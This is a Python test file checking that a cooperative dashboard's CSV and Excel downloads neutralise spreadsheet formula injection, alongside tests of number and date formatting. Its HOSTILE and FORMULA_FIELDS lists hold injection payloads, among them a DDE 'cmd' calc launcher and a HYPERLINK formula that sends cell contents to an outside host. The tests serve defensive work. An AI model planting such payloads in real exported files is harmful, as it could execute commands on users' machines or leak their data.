"""Every CSV and Excel file the app offers stays inert: read back as a spreadsheet would read it (Python's
csv module, openpyxl), no cell is a formula or starts like one, whatever the data held."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata

import office_exports as ox
import openpyxl
import pandas as pd
import pytest

from kopdash.ingest import registry
from kopdash.present import downloads

from conftest import ROOT, app_at, page_script

# Cells a careless or hostile office could send; each would start a formula if written as it comes.
HOSTILE = [
    "=1+1",
    "Budi\r=1+1",
    "Budi\n=1+1",
    "Budi\r\n@SUM(A1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\t=1+1",
    "+1+1",
    "-1+A1",
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
]
HARMLESS = ["-5", "+62 812 3456", "1.234", "biasa", "", "Jl. Merdeka - 5"]


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet would take this cell for a formula (fullwidth signs read as ASCII)."""
    text = unicodedata.normalize("NFKC", cell).lstrip()
    if not text or text[0] not in "=+-@":
        return False
    return not text[1:].replace(".", "").replace(",", "").replace(" ", "").isdigit()


def cells_of_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def cells_of_xlsx(data: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(csv_data: bytes, xlsx_data: bytes) -> None:
    for cell in cells_of_csv(csv_data):
        assert not evaluates(cell), repr(cell)
        assert not cell.startswith(("\r", "\n")), repr(cell)
    for cell in cells_of_xlsx(xlsx_data):
        assert cell.data_type != "f", repr(cell.value)
        if isinstance(cell.value, str) and evaluates(cell.value):
            assert cell.quotePrefix, f"{cell.value!r} would become a formula when edited"


def test_hostile_cells_and_headers_stay_text_in_csv_and_excel():
    frame = pd.DataFrame({f"Kolom {i}": [text] for i, text in enumerate(HOSTILE + HARMLESS)})
    frame["=1+1"] = "x"  # a header is a cell too (an unrecognised header of a quarantined row)
    frame["Catatan\r=2+2"] = "y"
    csv_data, xlsx_data = downloads.csv_bytes(frame), downloads.xlsx_bytes(frame)
    assert_inert(csv_data, xlsx_data)
    rows = list(csv.reader(io.StringIO(csv_data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 2, "a line break inside a cell never starts a new row"
    # Harmless values and the text itself come back unchanged (only the leading ' is added).
    assert rows[1][len(HOSTILE) :] == [*HARMLESS, "x", "y"]
    assert [cell.removeprefix("'") for cell in rows[1][: len(HOSTILE)]] == HOSTILE
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data)).active
    kept = [c.value.replace("_x000D_", "\r") for c in sheet[2]][: len(HOSTILE)]  # Excel's escape of CR
    assert kept == HOSTILE, "Excel cells keep the text verbatim"


# -- every download the pages offer ------------------------------------------------------------------
FORMULA_FIELDS = {
    "Nama Koperasi": "=1+1",
    "Kecamatan": "Kec\r=2+2",
    "Desa": '＝HYPERLINK("http://x")',
    "Nama Ketua": "@SUM(A1)",
    "No HP": "-1+A1",
    "Alamat": "Jl.\n=cmd|' /C calc'!A0",
}
HEADERS = ["NIK", *FORMULA_FIELDS, "Tanggal Badan Hukum", "RAT Terakhir", "Status Usaha", "Program"]
SNAPSHOT = dt.date(2024, 12, 31)


def export(rat_year: str, year: int = SNAPSHOT.year) -> bytes:
    rows = [
        HEADERS,
        ["3603000000000901", *FORMULA_FIELDS.values(), "01/01/2010", rat_year, "Berjalan", ""],
        ["3603000000000902", "=3+3 KMP", "Kec =4", "Desa", "", "", "", f"01/06/{year}", "", "Tidak", "KMP"],
        ["3603000000000903", "=Kembar", "Kec", "Desa", "", "", "", "31/02/2009", "2023", "Ya", ""],
    ]
    return "\n".join(";".join(f'"{c}"' if "\n" in c or "\r" in c else c for c in r) for r in rows).encode()


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory):
    root = ox.scratch_store(tmp_path_factory.mktemp("formula") / "store")
    regions = root / "regions.csv"  # a region's name is data too, shown on the comparison
    regions.write_text(regions.read_text().replace("Kabupaten Tangerang", "=Kabupaten Tangerang"))
    for day, rat in ((dt.date(2023, 12, 31), "2022"), (SNAPSHOT, "2022")):
        plan = registry.plan_import(export(rat, day.year), "ekspor.csv", ox.REGION, day, root)
        assert len(plan.accepted) == 2 and len(plan.quarantined) == 1, plan.quarantined
        registry.commit_import(plan, root)
    return root


def offered_downloads(
    monkeypatch, offered_tables, root, page: str, params: dict
) -> list[tuple[bytes, bytes]]:
    """The CSV and Excel bytes `page` offers with these URL parameters."""
    monkeypatch.setenv("KOPDASH_DATA_DIR", str(root))
    params = dict(params)
    app_at(page, {"date": SNAPSHOT.isoformat(), **params})  # `bagian`: chosen once it is open
    return [
        (downloads.csv_bytes(table), downloads.xlsx_bytes(table, sheet, lang))
        for table, sheet, lang in offered_tables
    ]


@pytest.mark.parametrize(
    "page, params",
    [
        (page_script("region"), {"region": ox.REGION, "bagian": "daftar"}),
        (page_script("early_warning"), {"region": ox.REGION}),
        (
            page_script("programme"),
            {"region": ox.REGION, "programme": "koperasi_merah_putih", "bagian": "panggil"},
        ),
        (page_script("comparison"), {"regions": f"{ox.REGION},36.04"}),
    ],
)
def test_every_list_the_pages_offer_is_inert(formula_store, monkeypatch, offered_tables, page, params):
    offered = offered_downloads(monkeypatch, offered_tables, formula_store, page, params)
    assert offered, f"{page} offers no download"
    for csv_data, xlsx_data in offered:
        assert_inert(csv_data, xlsx_data)
    neutralised = [c for csv_data, _ in offered for c in cells_of_csv(csv_data) if c.startswith("'=")]
    assert neutralised, "the hostile names reached the file, as text"


def test_the_quarantine_download_is_inert(formula_store, monkeypatch):
    monkeypatch.setenv("KOPDASH_DATA_DIR", str(formula_store))
    made = []
    original = downloads.csv_bytes
    monkeypatch.setattr(
        downloads, "csv_bytes", lambda frame, lang="id": made.append(original(frame, lang)) or made[-1]
    )
    app = app_at("importing")
    app.selectbox(key="import_region").set_value(ox.REGION)
    app.date_input(key="import_date").set_value(SNAPSHOT)
    data = export("2023").replace(b"Program", b'=HYPERLINK("x")')  # an unrecognised, hostile header
    app.file_uploader(key="import_file").set_value(("ekspor.csv", data, "text/csv"))
    app.run()
    assert not app.exception, [e.value for e in app.exception]
    assert made, "the quarantine is offered for download"
    cells = cells_of_csv(made[-1])
    assert '\'=HYPERLINK("x")' in cells and "'=Kembar" in cells
    assert not any(evaluates(cell) for cell in cells)


# -- Excel that Excel can add up ---------------------------------------------------------------------
@pytest.mark.parametrize("lang", ["id", "en"])
def test_display_numbers_and_dates_become_real_excel_numbers_and_dates(lang):
    import datetime as dt

    from kopdash.present import fmt

    table = pd.DataFrame(
        {
            "Kode wilayah": ["36.04", "33.14"],  # an identifier stays text however numeric it looks
            "Terdaftar": [fmt.number(1236, lang), fmt.number(80, lang)],
            "Aktif per 100": [fmt.number(79.04, lang, 1), fmt.MISSING],
            "% aktif": [fmt.percent(61.25, lang), fmt.percent(5, lang)],
            "Snapshot": [
                fmt.date_short(dt.date(2025, 11, 5), lang),
                fmt.date_long(dt.date(2021, 7, 18), lang),
            ],
            "Tahun RAT": ["2019", "2024"],
            "Telepon": ["0812", "0813"],
            "Perubahan": [fmt.signed(-3, lang), fmt.signed(12, lang)],
            "Catatan": ["1.236", "ada teks"],  # one text cell keeps the whole column text
        }
    )
    sheet = openpyxl.load_workbook(io.BytesIO(downloads.xlsx_bytes(table, "Data", lang))).active
    columns = {sheet.cell(1, c).value: [sheet.cell(r, c) for r in (2, 3)] for c in range(1, 10)}
    assert [c.value for c in columns["Kode wilayah"]] == ["36.04", "33.14"]
    assert [c.value for c in columns["Terdaftar"]] == [1236, 80]
    assert columns["Terdaftar"][0].number_format == "#,##0"
    assert (
        columns["Aktif per 100"][0].value == pytest.approx(79.0) and columns["Aktif per 100"][1].value is None
    )
    assert [c.value for c in columns["% aktif"]] == [pytest.approx(0.613), pytest.approx(0.05)]
    assert columns["% aktif"][0].number_format == "0.0%"
    assert [c.value for c in columns["Snapshot"]] == [dt.datetime(2025, 11, 5), dt.datetime(2021, 7, 18)]
    assert columns["Snapshot"][0].number_format.endswith("d mmmm yyyy")
    assert [c.value for c in columns["Tahun RAT"]] == [2019, 2024] and columns["Tahun RAT"][
        0
    ].number_format == "0"
    assert [c.value for c in columns["Telepon"]] == ["0812", "0813"]
    assert [c.value for c in columns["Perubahan"]] == [-3, 12]
    assert [c.value for c in columns["Catatan"]] == ["1.236", "ada teks"]


def test_the_comparison_workbook_adds_up_to_the_screen(monkeypatch, offered_tables):
    """The demo's comparison, downloaded: registered = the statuses' sum, in numbers Excel can add."""
    offered = offered_downloads(monkeypatch, offered_tables, ROOT / "data", page_script("comparison"), {})
    sheet = openpyxl.load_workbook(io.BytesIO(offered[0][1])).active
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    assert len(rows) == 5
    for row in rows:
        counted = [
            row[h] for h in header if h in ("Aktif", "Kurang aktif", "Tidak aktif", "Belum beroperasi")
        ]
        assert len(counted) == 4 and all(isinstance(v, int) for v in counted), row
        assert sum(counted) == row["Terdaftar"], row


def test_the_csv_is_separated_as_excel_in_the_readers_language_splits_it():
    """Indonesian Excel splits on ';' (its numbers are 1.234,5), English Excel on ',' (1,234.5: quoted)."""
    import csv
    import io

    from kopdash.present import downloads

    table = pd.DataFrame({"Wilayah": ["Kabupaten Serang"], "Terdaftar": ["1,234"], "% aktif": ["74.7"]})
    english = downloads.csv_bytes(table, "en").decode("utf-8-sig")
    assert english.splitlines()[0] == "Wilayah,Terdaftar,% aktif"
    assert list(csv.reader(io.StringIO(english)))[1] == ["Kabupaten Serang", "1,234", "74.7"]
    indonesian = downloads.csv_bytes(table.replace({"1,234": "1.234", "74.7": "74,7"})).decode("utf-8-sig")
    assert indonesian.splitlines()[1] == "Kabupaten Serang;1.234;74,7"
